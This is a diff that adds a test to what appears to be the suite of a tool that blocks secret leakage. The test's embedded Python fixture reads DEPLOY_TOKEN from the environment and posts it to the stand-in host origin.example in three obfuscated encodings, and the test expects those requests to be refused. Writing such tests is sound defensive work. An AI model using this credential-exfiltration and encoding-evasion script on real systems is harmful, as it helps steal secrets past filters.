@@ -208,6 +208,29 @@ def test_parts_of_a_value_in_unlike_requests_are_stopped(place):
     assert {finding.rule for finding in pieces} == {"registered:DEPLOY_TOKEN"}
 
 
+APART = """
+import json, os, urllib.error, urllib.request as u
+value = os.environ["DEPLOY_TOKEN"].encode()
+def send(body):
+    try:
+        return u.urlopen(u.Request("https://origin.example/in", data=b"see " + body)).status
+    except urllib.error.HTTPError as error:
+        return error.code
+print(json.dumps([
+    send(" ".join(map(str, value)).encode()),
+    send(value.hex("-").encode()),
+    send(b"\\n-\\n".join(bytes((c,)) for c in value)),
+    send(b"honest"),
+]))
+"""
+
+
+def test_a_value_that_is_taken_apart_does_not_leave(place):
+    ran = place.run(sys.executable, "-c", APART, DEPLOY_TOKEN=place.values["DEPLOY_TOKEN"])
+    assert ran.returncode == 0, ran.stderr
+    assert json.loads(ran.stdout.splitlines()[0]) == [403, 403, 403, 200]
+
+
 def test_a_source_that_cannot_be_read_ends_the_start(place):
     ran = place.run("true", options=("--secrets-from", "missing.env"))
     assert ran.returncode == 3
